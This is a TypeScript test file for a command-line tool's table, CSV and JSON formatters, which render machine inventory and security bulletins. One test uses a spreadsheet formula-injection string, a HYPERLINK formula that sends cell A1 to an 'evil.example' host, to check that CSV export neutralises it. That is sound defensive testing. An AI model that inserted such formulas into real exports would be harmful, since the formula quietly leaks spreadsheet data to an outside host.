import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { BulletinWire, MachineWire } from '../../protocol/api.js';
import { BULLETIN_COLUMNS } from '../commands/bulletins.js';
import { MACHINE_COLUMNS } from '../commands/machines.js';
import { renderCsv, renderList, renderOne, renderRecord, renderTable, tableCell, type Column } from './format.js';

interface Row {
  name: string;
  note: string | null;
  n: number;
}
const COLUMNS: Column<Row>[] = [
  { header: 'NAME', value: (r) => r.name },
  { header: 'N', value: (r) => r.n },
  { header: 'NOTE', value: (r) => r.note },
];

describe('tableCell', () => {
  it.each<[unknown, string]>([
    [null, '-'],
    [undefined, '-'],
    ['', '-'],
    [true, 'yes'],
    [false, 'no'],
    [[], '-'],
    [['a', 'b'], 'a,b'],
    [0, '0'],
    ['2024-05-01T12:34:56.789Z', '2024-05-01 12:34'],
    ['2024-05-01', '2024-05-01'],
    ['two\nlines\tand\u001b[31mescape', 'two lines and [31mescape'],
  ])('%j → %j', (v, expected) => {
    expect(tableCell(v as never)).toBe(expected);
  });

  it('clips long text', () => {
    expect(tableCell('x'.repeat(100), 10)).toBe('xxxxxxxxxx…');
  });
});

describe('renderTable', () => {
  it('aligns columns by the widest cell, two spaces apart, no trailing spaces', () => {
    const out = renderTable(COLUMNS, [
      { name: 'web-01', n: 3, note: null },
      { name: 'db', n: 12, note: 'primary' },
    ]);
    expect(out).toBe(['NAME    N   NOTE', 'web-01  3   -', 'db      12  primary', ''].join('\n'));
  });

  it('measures characters, not UTF-16 units', () => {
    const out = renderTable(COLUMNS.slice(0, 2), [{ name: 'nœud-😀', n: 1, note: null }]);
    expect(out.split('\n')[1]).toBe('nœud-😀  1');
  });
});

describe('CSV (RFC 4180)', () => {
  it('has a header record, CRLF line breaks, and empty fields for none', () => {
    const out = renderCsv(COLUMNS, [
      { name: 'web,01', n: 3, note: null },
      { name: 'db', n: 12, note: 'line1\nline2' },
    ]);
    expect(out).toBe('NAME,N,NOTE\r\n"web,01",3,\r\ndb,12,"line1\nline2"\r\n');
  });
});

describe('renderRecord', () => {
  it('aligns labels', () => {
    expect(renderRecord(COLUMNS, { name: 'web', n: 1, note: 'x' })).toBe('NAME: web\nN:    1\nNOTE: x\n');
  });
});

const machine = (over: Partial<MachineWire> = {}): MachineWire => ({
  id: 'm-1',
  name: 'web-01',
  os: { family: 'linux', platform: 'debian', release: '12', codename: 'bookworm', arch: 'amd64' },
  role: 'web',
  criticality: 'high',
  owner: 'ops@example.org',
  location: null,
  tags: ['dmz', 'eu'],
  internetFacing: true,
  source: 'agent',
  agentId: 'a-1',
  createdAt: '2024-05-01T10:00:00.000Z',
  lastSeenAt: '2024-05-02T08:30:00.000Z',
  inventoryAt: null,
  assessedAt: null,
  assessmentPending: false,
  agentStale: null,
  openFindings: 4,
  ...over,
});

describe('renderList and renderOne with the machine columns', () => {
  it('table: the chosen columns and a note when the page is not the whole list', () => {
    const out = renderList('table', MACHINE_COLUMNS, { items: [machine()], total: 3 }, { noun: 'machines', offset: 0 });
    const lines = out.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^NAME\s+OS\s+ROLE\s+CRITICALITY\s+OWNER\s+INTERNET\s+OPEN\s+LAST SEEN\s+TAGS$/);
    expect(lines[1]).toMatch(
      /^web-01\s+debian 12\s+web\s+high\s+ops@example.org\s+yes\s+4\s+2024-05-02 08:30\s+dmz,eu$/,
    );
    expect(lines[2]).toBe('(machines 1–1 of 3; use --offset and --limit, or --all)');
  });

  it('table: an empty list says so', () => {
    expect(renderList('table', MACHINE_COLUMNS, { items: [], total: 0 }, { noun: 'machines', offset: 0 })).toBe(
      'No machines.\n',
    );
  });

  it('csv: every column, snake_case headers', () => {
    const out = renderList(
      'csv',
      MACHINE_COLUMNS,
      { items: [machine({ owner: 'Ops, "EU"' })], total: 1 },
      { noun: 'machines', offset: 0 },
    );
    const [head, row] = out.split('\r\n');
    expect(head).toBe(MACHINE_COLUMNS.full.map((c) => c.header).join(','));
    expect(row).toContain(',"Ops, ""EU""",');
    expect(row).toContain(',dmz eu,true,agent,');
  });

  it('csv: a hostile bulletin title from a feed is text, not a formula', () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const bulletin = { id: 'DSA-1', title, withdrawnAt: null } as unknown as BulletinWire;
    const out = renderList('csv', BULLETIN_COLUMNS, { items: [bulletin], total: 1 }, { noun: 'bulletins', offset: 0 });
    const [head, row] = parse(out);
    expect(row![head!.indexOf('title')]).toBe(`'${title}`);
  });

  it('json: the list as the API sent it', () => {
    const page = { items: [machine()], total: 1 };
    expect(JSON.parse(renderList('json', MACHINE_COLUMNS, page, { noun: 'machines', offset: 0 }))).toEqual(page);
  });

  it('show (table): every attribute as label: value', () => {
    const out = renderOne('table', MACHINE_COLUMNS, machine());
    expect(out).toContain('internet_facing:    yes\n');
    expect(out).toContain('location:           -\n');
  });
});
